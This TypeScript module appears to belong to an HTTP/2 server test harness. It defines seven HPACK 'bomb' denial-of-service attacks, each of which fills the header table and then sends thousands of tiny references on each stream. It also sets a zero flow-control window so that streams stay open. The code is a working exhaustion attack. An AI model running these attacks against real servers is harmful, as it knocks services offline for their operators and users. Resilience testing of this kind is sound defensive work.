/** HTTP/2 Bomb (CVE-2026-47774, CVE-2026-49975): a few bytes stand for many, and the streams stay open. */
import { type Attack, byMany } from '../attack.ts'
import type { Connection } from '../connection.ts'
import { headers } from '@volant/test-kit/http2-frames'
import { ageName, cookieName, head, hostName, indexed, inserted, newest } from '../hpack.ts'

const goal = { calls: null, memory: 'share', ends: 'streams' } as const
const connections = 10
const streams = { full: 100, quick: 100 } as const
/** SETTINGS_INITIAL_WINDOW_SIZE of 0: the server may send no byte of a body. */
const noWindow = [[4, 0]] as const
/**
 * A server takes 4 µs of CPU time a KiB for requests of 16 KiB of literals, and 500 µs if it checks each field once
 * that is referred to.
 */
const thrifty = { ...goal, cpu: 100 } as const
const requests = { full: 100, quick: 20 } as const
const large = 'a'.repeat(3_990)

export const bombs: readonly Attack[] = [
  {
    name: 'bomb:tiny-fields',
    about: 'A field of 3 KB in the table, and 8,000 references to it in each request.',
    goal,
    times: streams,
    run: (target, count, { send, grace }) =>
      byMany(
        target,
        connections,
        (connection) => bomb(connection, count, target.encrypted, inserted('x', 'a'.repeat(3_000)), 8_000),
        { settings: noWindow, until: 'streams', hold: send + grace },
      ),
  },
  {
    name: 'bomb:empty-fields',
    about: 'An empty field in the table, and 16,000 references to it in each request.',
    goal,
    times: streams,
    run: (target, count, { send, grace }) =>
      byMany(
        target,
        connections,
        (connection) => bomb(connection, count, target.encrypted, inserted('x', ''), 16_000),
        { settings: noWindow, until: 'streams', hold: send + grace },
      ),
  },
  {
    name: 'bomb:cookies',
    about: 'A crumb of a cookie in the table, and 16,000 references to it in each request.',
    goal,
    times: streams,
    run: (target, count, { send, grace }) =>
      byMany(
        target,
        connections,
        (connection) => bomb(connection, count, target.encrypted, inserted(cookieName, 'a'), 16_000),
        { settings: noWindow, until: 'streams', hold: send + grace },
      ),
  },
  {
    name: 'bomb:within-limits',
    about: 'Requests of 25 bytes that stand for 12 KB, less than any limit, with replies that are held.',
    goal,
    times: streams,
    run: (target, count, { send, grace }) =>
      byMany(
        target,
        connections,
        (connection) => bomb(connection, count, target.encrypted, inserted('x', 'a'.repeat(3_000)), 4),
        { settings: noWindow, until: 'streams', hold: send + grace },
      ),
  },
  {
    name: 'bomb:trailers',
    about:
      'A field of 4 KB that is left out of trailers, and 16,000 references to it in those of each request.',
    goal: thrifty,
    times: requests,
    run: (target, count) =>
      byMany(
        target,
        connections,
        async (connection) => {
          const first = inserted(ageName, large)
          const many = Buffer.alloc(16_000, indexed(newest))
          const block = head({ encrypted: target.encrypted, method: 'POST' })
          for (let at = 0; at < count && connection.ending === 'open' && !connection.isStalled; at += 1) {
            const stream = 2 * at + 1
            const trailers = headers(stream, at === 0 ? first : many)
            await connection.send(Buffer.concat([headers(stream, block, true), trailers]))
          }
          return count
        },
        { until: 'streams', hold: 30_000 },
      ),
  },
  {
    name: 'bomb:host',
    about: 'A Host of 4 KB that repeats the authority, and 12,000 references to it in each request.',
    goal: thrifty,
    times: requests,
    run: (target, count) =>
      byMany(
        target,
        connections,
        (connection) => bomb(connection, count, target.encrypted, inserted(hostName, large), 12_000, large),
        { until: 'streams', hold: 30_000 },
      ),
  },
  {
    name: 'bomb:names',
    about: 'A name of 4 KB, which each request puts into the table again 8,000 times.',
    goal: thrifty,
    times: requests,
    run: (target, count) =>
      byMany(
        target,
        connections,
        async (connection) => {
          const first = inserted('x'.repeat(4_000), '')
          const many = Buffer.alloc(16_000, inserted(newest, ''))
          for (let at = 0; at < count && connection.ending === 'open' && !connection.isStalled; at += 1) {
            const more = at === 0 ? [first] : [many]
            await connection.send(headers(2 * at + 1, head({ encrypted: target.encrypted, more })))
          }
          return count
        },
        { until: 'streams', hold: 30_000 },
      ),
  },
]

/** Sends requests that refer to one field `references` times. The first stream adds the field to the table. */
async function bomb(
  connection: Connection,
  count: number,
  encrypted: boolean,
  field: Uint8Array,
  references: number,
  authority = 'localhost',
): Promise<number> {
  const many = Buffer.alloc(references, indexed(newest))
  for (let at = 0; at < count && connection.ending === 'open' && !connection.isStalled; at += 1) {
    const more = at === 0 ? [field] : [many]
    await connection.send(headers(2 * at + 1, head({ encrypted, authority, more })))
  }
  return count
}
